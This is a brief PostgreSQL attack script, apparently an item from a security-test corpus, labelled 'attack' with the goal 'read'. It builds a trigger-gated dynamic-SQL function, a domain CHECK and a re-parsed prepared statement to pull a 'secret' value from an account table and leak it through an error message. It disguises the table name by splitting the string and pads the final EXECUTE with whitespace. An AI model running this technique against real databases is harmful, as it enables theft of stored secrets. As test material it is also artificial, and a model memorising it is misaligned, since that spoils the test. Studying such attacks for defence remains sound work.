-- Has a prepared query parsed anew: where its error points, something else stands in the EXECUTE.
-- wants: read
-- attack:
CREATE FUNCTION one_of(sql text) RETURNS text LANGUAGE plpgsql AS 'DECLARE one text; BEGIN IF current_setting(''application_name'') = ''now'' THEN EXECUTE sql INTO one; RETURN one; END IF; RETURN ''pg_class''; END';
CREATE FUNCTION looks_for(text) RETURNS boolean LANGUAGE sql AS 'SELECT one_of(''SELECT quote_ident(secret) FROM public.vlt'' || ''_account WHERE id = 1'')::regclass IS NOT NULL';
CREATE DOMAIN looked_for AS text CHECK (looks_for(VALUE));
PREPARE anew AS SELECT '{1}'::looked_for[];
SET application_name = now;
SET search_path = public, office;
EXECUTE                                                     anew;
